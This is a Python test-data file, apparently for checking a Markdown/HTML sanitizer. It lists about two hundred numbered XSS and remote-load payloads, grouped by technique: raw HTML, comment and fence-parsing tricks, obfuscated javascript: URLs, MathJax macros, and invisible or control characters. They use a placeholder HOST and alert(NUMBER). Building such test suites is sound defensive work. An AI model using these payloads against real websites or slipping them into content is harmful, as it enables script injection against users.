r"""Answers that try to make a page run something or load something, one by one, by number; the hundreds are kinds.

HOST stands for the attacker's address and NUMBER for the number: paths below HOST, and `alert(NUMBER)`, tell which of
them did it. Every character that does not print is written as an escape.
"""

RAW_HTML = {
    101: '<script>alert(NUMBER); fetch("HOST/script")</script>',
    102: 'An <img src="HOST/inline.png" onerror="alert(NUMBER)"> inline.',
    103: '<IMG SRC="HOST/upper.png" ONERROR="alert(NUMBER)">',
    104: '<img\nsrc="HOST/lines.png"\n   onerror="alert(NUMBER)" >',
    105: 'A <img title="one\ntwo" src="HOST/newline.png" onerror="alert\n(NUMBER)"> of two lines.',
    106: '<svg onload="alert(NUMBER)"><image href="HOST/svg.png"/><a href="javascript:alert(NUMBER)">x</a></svg>',
    107: '<style>@import url("HOST/style.css"); .attack { background-image: url("HOST/style.png") }</style>\n'
    '<div class="attack">x</div>',
    108: '<iframe src="HOST/frame"></iframe>',
    109: '<iframe srcdoc="<img src=HOST/frame.png><script>alert(NUMBER)</script>"></iframe>',
    110: '<object data="HOST/object"></object> <embed src="HOST/embed">',
    111: '<details open ontoggle="alert(NUMBER)"><summary>x</summary><img src="HOST/details.png"></details>',
    112: '<picture><source srcset="HOST/source.png"><img></picture>\n'
    '<video poster="HOST/poster.png" src="HOST/video.mp4"></video> <audio src="HOST/audio.mp3"></audio>',
    113: '<input type="image" src="HOST/input.png">',
    114: '<link rel="stylesheet" href="HOST/link.css"><link rel="preload" as="image" href="HOST/preload.png">',
    115: '<div style="background-image: url(HOST/style.png)">x</div> <table background="HOST/table.png"></table>',
    116: '<form action="HOST/form"><button formaction="javascript:alert(NUMBER)">Continue</button></form>',
    117: '</div></pre></code><img src="HOST/outside.png" onerror="alert(NUMBER)">',
    118: 'A <a href="javascript:alert(NUMBER)" onclick="alert(NUMBER)">link</a> of HTML.',
    119: '<img src="HOST/unclosed.png" onerror="alert(NUMBER)" title="',
    120: "<img/src='HOST/slash.png'/onerror=alert(NUMBER)>",
    121: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=HOST/mutated.png'
    ' onerror=alert(NUMBER)&gt;">',
    122: '<noscript><p title="</noscript><img src=HOST/noscript.png onerror=alert(NUMBER)>"></noscript>',
    123: '<p onmouseover="alert(NUMBER)">Point here.</p>',
    124: '<textarea><img title="</textarea><img src=HOST/textarea.png onerror=alert(NUMBER)>"></textarea>',
    125: '- <img src="HOST/item.png">\n\n> <img src="HOST/quote.png" onerror="alert(NUMBER)">',
    126: '*<img src="HOST/emphasis.png">* ~~<img src="HOST/deleted.png">~~ **<b onclick="alert(NUMBER)">b</b>**',
    127: '<meta http-equiv="refresh" content="0; url=HOST/refresh">',
}

COMMENTS = {
    201: '<!--> <img src="HOST/short.png" onerror="alert(NUMBER)"> -->',
    202: '<!-- a --!> <img src="HOST/bang.png" onerror="alert(NUMBER)"> -->',
    203: '<![CDATA[ > <img src="HOST/cdata.png" onerror="alert(NUMBER)"> ]]>',
    204: '<?php > <img src="HOST/instruction.png" onerror="alert(NUMBER)"> ?>',
    205: '<!DOCTYPE html> <img src="HOST/doctype.png" onerror="alert(NUMBER)">',
    206: '<!-- one\n\ntwo --> <img src="HOST/blank-line.png" onerror="alert(NUMBER)">',
    207: 'A comment <!-- in a paragraph --><img src="HOST/paragraph.png" onerror="alert(NUMBER)">',
    208: '`<!--` and <img src="HOST/between.png"> `-->`',
    209: '</ ><img src="HOST/bogus.png" onerror="alert(NUMBER)">',
}

FENCES = {
    301: '> ```\n> code\n<img src="HOST/after-quote.png" onerror="alert(NUMBER)">',
    302: '- ```\n  code\n\n<img src="HOST/after-item.png" onerror="alert(NUMBER)">',
    303: '````\n```\n````\n<img src="HOST/after-four.png" onerror="alert(NUMBER)">',
    304: '~~~\n```\n~~~\n<img src="HOST/after-tildes.png" onerror="alert(NUMBER)">',
    305: '``` a`b\n<img src="HOST/no-fence.png" onerror="alert(NUMBER)">\n```',
    306: "```mermaid\nflowchart TD\n  A[\"<img src='HOST/label.png' onerror='alert(NUMBER)'/>\"] -->"
    ' B@{ img: "HOST/shape.png", w: 60, h: 60 }\n```',
    307: '~~~ mermaid\n</pre><img src="HOST/mermaid.png" onerror="alert(NUMBER)">\n~~~',
    308: "```MERMAID title\nflowchart TD\n  A[\"<img src='HOST/upper.png' onerror='alert(NUMBER)'/>\"]\n```",
    309: '- ```mermaid\n  flowchart TD\n    A[x]\n    click A "javascript:alert(NUMBER)"\n  ```\n\n> ~~~mermaid\n'
    "> flowchart TD\n>   A[\"<img src='HOST/quoted.png'/>\"]\n> ~~~",
    310: '```"><img src="HOST/info.png" onerror="alert(NUMBER)">\nx\n```',
    311: '```\ncode\n``` x\n```\n<img src="HOST/after-close.png" onerror="alert(NUMBER)">',
    312: '```\rcode\r```\r<img src="HOST/carriage-return.png" onerror="alert(NUMBER)">',
    313: '```\ncode\n```\u2028\n```\n<img src="HOST/separator.png" onerror="alert(NUMBER)">',
    314: '\x0b```\n<img src="HOST/vertical-tab.png" onerror="alert(NUMBER)">\n```',
    315: '\u00a0\u00a0\u00a0\u00a0<img src="HOST/no-break.png" onerror="alert(NUMBER)">',
    316: '1. a\n\n        code\n\n   <img src="HOST/list.png">\n\n    <img src="HOST/margin.png">',
    317: '10000000000. ```\n<img src="HOST/ten-digits.png" onerror="alert(NUMBER)">\n```',
    318: '```html\n<img src="HOST/open.png" onerror="alert(NUMBER)">',
    319: '    ```\n<img src="HOST/indented.png" onerror="alert(NUMBER)">\n    ```',
    320: '> - ```\n>   a\n> <img src="HOST/nested.png" onerror="alert(NUMBER)">\n>   ```',
}

REFERENCES = {
    401: "![reference][pic]\n\n[pic]: HOST/reference.png",
    402: "![shortcut]\n\n[shortcut]: HOST/shortcut.png 'title'",
    403: "[x]\n\n[x]: javascript:alert(NUMBER)",
    404: "[x][]\n\n[x]:\n    javascript:alert(NUMBER)\n    'title'",
    405: "> [x]: <javascript:alert(NUMBER)>\n\n- [y]: javascript:alert(NUMBER)\n\n[x] and [y]",
    406: "[one\ntwo]\n\n[One  Two]: javascript:alert(NUMBER)",
    407: "[x][a\\]b]\n\n[a\\]b]: javascript:alert(NUMBER)",
    408: "[x]\n\n[x]: https://example.com\n[y]: javascript:alert(NUMBER)\n[z][y]",
    409: "[\u1e9e]\n\n[SS]: javascript:alert(NUMBER)",
    410: "[x]\n\n[x]: jav&#x61;script&colon;alert(NUMBER) \"a 'title'\"",
    411: "[x]\n\n   [x]: data:text/html,alert(NUMBER)\n# heading",
    412: '[`a`]: HOST/code.png\n\n![`a`] and ![x][`a`] <img src="HOST/definition.png">',
}

ADDRESSES = {
    501: "<javascript:alert(NUMBER)> <JAVASCRIPT:alert(NUMBER)>",
    502: "<data:text/html,alert(NUMBER)>",
    503: "<vbscript:alert(NUMBER)> [x](vbscript:alert(NUMBER))",
    504: "[x](jav&#x61;script:alert(NUMBER))",
    505: "[x](javascript&colon;alert(NUMBER)) [y](&#0000106avascript&#58;alert(NUMBER))",
    506: "[x](<java\tscript:alert(NUMBER)>)",
    507: "[x](java&Tab;script:alert(NUMBER)) [y](java&NewLine;script:alert(NUMBER))",
    508: "[x](&#1;javascript:alert(NUMBER)) [y](\x01javascript:alert(NUMBER))",
    509: "[x](JaVaScRiPt:alert(NUMBER))",
    510: "[x]( <javascript:alert(NUMBER)> ) [y](\njavascript:alert(NUMBER)\n)",
    511: "[x](data:text/html;base64,YWxlcnQ=,alert(NUMBER)) [y](data:image/svg+xml,alert(NUMBER))",
    512: "[x](\\javascript:alert(NUMBER)) [y](javascript\\:alert(NUMBER))",
    513: "[x](javascript%3Aalert(NUMBER)) [y](%6Aavascript:alert(NUMBER))",
    514: "[x](file:///attack/NUMBER/) [y](blob:HOST/) [z](ws://127.0.0.1/attack/NUMBER/)",
    515: "ftp://127.0.0.1/attack/NUMBER/x and <ftp://127.0.0.1/attack/NUMBER/y>, xmpp:a@127.0.0.1/attack/NUMBER/",
    516: 'https://example.com/"onmouseover="alert(NUMBER)" and <https://example.com/"onmouseover="alert(NUMBER)">',
    517: '[x](https://example.com/"onmouseover="alert(NUMBER) \'a" onmouseover="alert(NUMBER)\')',
    518: '[x](https://example.com "a\\" onmouseover=\\"alert(NUMBER)")'
    ' [y](https://example.com (" onclick="alert(NUMBER)))',
    519: "[x](https://example.com 'a &quot; onmouseover=&quot;alert(NUMBER)')",
    520: "[a [b](javascript:alert(NUMBER)) c](javascript:alert(NUMBER)) [[d]](javascript:alert(NUMBER))",
    521: "[a\\](https://example.com)](javascript:alert(NUMBER)) [`]`](javascript:alert(NUMBER))",
    522: "[x](//127.0.0.1/attack/NUMBER/) [y](/attack/NUMBER/) [z](\\\\\\\\127.0.0.1/attack/NUMBER/)",
    523: "[x](http:javascript:alert(NUMBER)) [y](mailto:javascript:alert(NUMBER)) [z](#javascript:alert(NUMBER))",
    524: "[![x](https://example.com/a](javascript:alert(NUMBER)) [x]()(javascript:alert(NUMBER))",
}

IMAGES = {
    601: "![](HOST/plain.png)",
    602: "[![x](HOST/linked.png)](https://example.com)",
    603: "![a ![b](HOST/inner.png) c](HOST/outer.png)",
    604: "![<img src='HOST/alt.png' onerror='alert(NUMBER)'>](HOST/image.png)",
    605: "![\"><img src='HOST/break.png' onerror='alert(NUMBER)'>](HOST/image.png \"><script>alert(NUMBER)</script>\")",
    606: "\\\\![x](HOST/backslash.png) \\!\\[y](HOST/escaped.png) !\\\n[z](HOST/split.png)",
    607: '![x](HOST/title.png "a\\" onerror=\\"alert(NUMBER)")',
    608: "![x](<HOST/angle.png>) ![y]( HOST/blanks.png ) ![z](\nHOST/newline.png\n)",
    609: "[[[[![x](HOST/brackets.png)]]]](https://example.com)",
    610: "![x](data:image/svg+xml,<svg/onload=alert(NUMBER)>) ![x](HOST/image.png)",
    611: "![x](HOST/list.png){onerror=alert(NUMBER)} ![y](HOST/y.png){: onerror='alert(NUMBER)'}",
    612: "![`x`](HOST/code.png) ![*y*](HOST/emphasis.png) !![z](HOST/twice.png)",
    613: "![x](HOST/a.png?`) ` <img src='HOST/tick.png'> `",
    614: "![$x](HOST/dollar.png)$ $![y](HOST/formula.png)$",
}

TABLES_AND_CODE = {
    701: '| a |\n|---|\n| <img src="HOST/cell.png" onerror="alert(NUMBER)"> |',
    702: "| a | b |\n|---|---|\n| ![x](HOST/cell.png) | [y](javascript:alert(NUMBER)) |",
    703: '| `a | <img src="HOST/pipe.png" onerror="alert(NUMBER)"> ` |\n|---|---|\n| `c | d` | e |',
    704: '| a \\| `b | <img src="HOST/escaped-pipe.png">` |\n|---|---|\n| `c \\\\| <img src="HOST/two.png">` | d |',
    705: 'An open `span <img src="HOST/open.png" onerror="alert(NUMBER)">',
    706: '`a\n\n<img src="HOST/blank-line.png" onerror="alert(NUMBER)">\n\nb`',
    707: '\\`<img src="HOST/escaped.png" onerror="alert(NUMBER)">`',
    708: '`` ` <img src="HOST/uneven.png" onerror="alert(NUMBER)"> ``` `',
    709: '`a\\` <img src="HOST/backslash.png" onerror="alert(NUMBER)"> `b`',
    710: '`a\n|-|\n<img src="HOST/rule.png" onerror="alert(NUMBER)">`',
    711: 'https://example.com`<img src="HOST/address.png" onerror="alert(NUMBER)">`',
    712: "*a <5 `x> *<img src='HOST/less-than.png' onerror='alert(NUMBER)'>`",
    713: "~~a `~~<img src='HOST/tildes.png' onerror='alert(NUMBER)'>`",
    714: '`a`` <img src="HOST/runs.png" onerror="alert(NUMBER)"> ``b`',
    715: '- `a\n- <img src="HOST/items.png" onerror="alert(NUMBER)">`\n\n# `b\n<img src="HOST/heading.png">`',
    716: '<a title="`" href="javascript:alert(NUMBER)">`x</a>',
}

MATH = {
    801: "$\\href{javascript:alert(NUMBER)}{x}$",
    802: "$$\\href{javascript:alert(NUMBER)}{x}$$ $$\\style{background-image:url(HOST/style.png)}{x}$$",
    803: "\\begin{equation}\\href{javascript:alert(NUMBER)}{x}\\end{equation}",
    804: "$\\require{html} \\require{action} \\href{javascript:alert(NUMBER)}{\\unicode{x41}}$",
    805: "$\\class{attack}{x} \\cssId{attack}{\\style{background:url(HOST/class.png)}{y}}$",
    806: '$\\text{<img src="HOST/text.png" onerror="alert(NUMBER)">}$',
    807: '$$\n<img src="HOST/display.png" onerror="alert(NUMBER)">\n$$',
    808: "\\\\(\\href{javascript:alert(NUMBER)}{x}\\\\) \\\\[\\href{javascript:alert(NUMBER)}{y}\\\\]",
    809: "$a$ `$<img src='HOST/span.png' onerror='alert(NUMBER)'>` $",
    810: "$$ open\n\n<img src='HOST/paragraphs.png' onerror='alert(NUMBER)'>\n\n$$",
    811: "&#36;\\href{javascript:alert(NUMBER)}{x}&#36; &dollar;&bsol;href{javascript:alert(NUMBER)}{y}&dollar;",
    812: "$\\def\\x{\\href}\\x{javascript:alert(NUMBER)}{y}$ $\\let\\z\\href\\z{javascript:alert(NUMBER)}{y}$",
    813: "$\\csname href\\endcsname{javascript:alert(NUMBER)}{y}$",
    814: '$\\mmlToken{mi}[href="javascript:alert(NUMBER)"]{x}$',
    815: "$\\bbox[background-image:url(HOST/box.png)]{x} \\bbox[5px,border:1px solid;background:url(HOST/b.png)]{y}$",
    816: "$\\includegraphics{HOST/graphic.png} \\url{javascript:alert(NUMBER)}$",
    817: "$\\colorbox{url(HOST/colour.png)}{x} \\color{red;background-image:url(HOST/color.png)}{y}$",
    818: '$\\enclose{circle}[href="javascript:alert(NUMBER)" style="background:url(HOST/enclose.png)"]{x}$',
    819: "$\\begin{href}{javascript:alert(NUMBER)}{x}\\end{href}$ $\\toggle{a}{\\href{javascript:alert(NUMBER)}{b}}$",
    820: "$ &#92;hr&#101;f{javascript:alert(NUMBER)}{x} $ and $\\text{$\\href{javascript:alert(NUMBER)}{y}$}$",
    821: "```\n$$\n```\n\n\\href{javascript:alert(NUMBER)}{x} <img src='HOST/fence.png'>\n\n```\n$$\n```",
    822: "$\\ce{->[\\href{javascript:alert(NUMBER)}{x}]}$ $\\newcommand{\\y}[1]{\\href{#1}{x}}"
    " \\y{javascript:alert(NUMBER)}$",
    823: "$$\\begin{array}{c}\\href{javascript:alert(NUMBER)}{x}\\end{array}\n\\tag{<img src='HOST/tag.png'>}$$",
    824: "[^1] and ^[<img src='HOST/note.png'>]\n\n[^1]: <img src='HOST/footnote.png' onerror='alert(NUMBER)'>",
    825: "[^x](javascript:alert(NUMBER)) and [^y]\n\n[^y]: javascript:alert(NUMBER)",
    826: "[^z]\n\n[^z]:\n    ![x](HOST/footnote.png)\n\n        <img src='HOST/code.png'>",
}

CHARACTERS_AND_HEADINGS = {
    901: '<img\u200b src="HOST/zero-width.png" onerror="alert(NUMBER)"> <\u200bimg src="HOST/name.png">',
    902: "[x](java\u200bscript:alert(NUMBER)) [y](\u200bjavascript:alert(NUMBER)) [z](\ufeffjavascript:alert(NUMBER))",
    903: '\u202e<img src="HOST/bidi.png" onerror="alert(NUMBER)">\u202c [x](\u2066javascript:alert(NUMBER))',
    904: '<img\0 src="HOST/null.png" onerror="alert(NUMBER)"> <\0img src="HOST/name.png"> <i\0mg src="HOST/in.png">',
    905: "[x](java\0script:alert(NUMBER)) [y](\0javascript:alert(NUMBER))",
    906: '\\\\<img src="HOST/even.png" onerror="alert(NUMBER)"> \\<img src="HOST/odd.png">',
    907: "\\\\\\\\[x](javascript:alert(NUMBER)) [y\\\\](javascript:alert(NUMBER)) \\[z](javascript:alert(NUMBER))",
    908: '<img src="HOST/setext.png" onerror="alert(NUMBER)">\n===\n\nTwo <img src="HOST/second.png">\n---',
    909: '# <img src="HOST/heading.png" onerror="alert(NUMBER)">\n\n## "><img src="HOST/anchor.png">',
    910: "# a\" onmouseover=\"alert(NUMBER)\n\n## b' onclick='alert(NUMBER)\n\n### ![x](HOST/heading.png)",
    911: '[toc]\n\n[[toc]]\n\n# <img src="HOST/contents.png" onerror="alert(NUMBER)"> {#x onclick="alert(NUMBER)"}',
    912: '{: onclick="alert(NUMBER)" style="background:url(HOST/list.png)"}\n'
    "[x](https://example.com){: onclick=alert(NUMBER)}",
    913: f'{"> " * 60}<img src="HOST/quotes.png" onerror="alert(NUMBER)">',
    914: f'{"- " * 60}<img src="HOST/items.png" onerror="alert(NUMBER)">',
    915: f"{'[' * 300}x{'](javascript:alert(NUMBER))' * 300} ![y](HOST/brackets.png)",
    916: f'{"*" * 300}<img src="HOST/stars.png" onerror="alert(NUMBER)">{"*" * 300}',
    917: f'{"> - " * 30}```\n<img src="HOST/fence.png" onerror="alert(NUMBER)">',
    918: '> [!NOTE]\n> <img src="HOST/note.png" onerror="alert(NUMBER)">',
    919: '&lt;img src="HOST/named.png"&gt; &#60;img src="HOST/decimal.png"&#62; &amp;lt;img src="HOST/twice.png">',
    920: '---\n<img src="HOST/matter.png" onerror="alert(NUMBER)">\n---',
    921: 'Two  \n<img src="HOST/blanks.png">\\\n<img src="HOST/break.png" onerror="alert(NUMBER)">',
    922: 'Term\n: <img src="HOST/term.png" onerror="alert(NUMBER)">\n\n- [ ] <img src="HOST/task.png">',
    923: '\ufeff<img src="HOST/mark.png" onerror="alert(NUMBER)">\u2028<img src="HOST/line.png">'
    '\u0085<img src="HOST/c1.png">',
    924: ':::{div onclick="alert(NUMBER)"}\n<img src="HOST/colons.png">\n:::\n\n::: <img src="HOST/x.png">',
    925: '[<img src="HOST/label.png" onerror="alert(NUMBER)">](https://example.com)'
    ' [x](<https://example.com/"><img src="HOST/y.png">)',
    926: '<https://example.com/<img src="HOST/address.png" onerror="alert(NUMBER)">>'
    ' <https://example.com/"><b onclick="alert(NUMBER)">',
    927: '\x1b[31m<img src="HOST/escape.png" onerror="alert(NUMBER)">\x1b[0m \x08<b\x0conclick="alert(NUMBER)">',
}

#: Every attack by its number.
ATTACKS = (
    RAW_HTML | COMMENTS | FENCES | REFERENCES | ADDRESSES | IMAGES | TABLES_AND_CODE | MATH | CHARACTERS_AND_HEADINGS
)
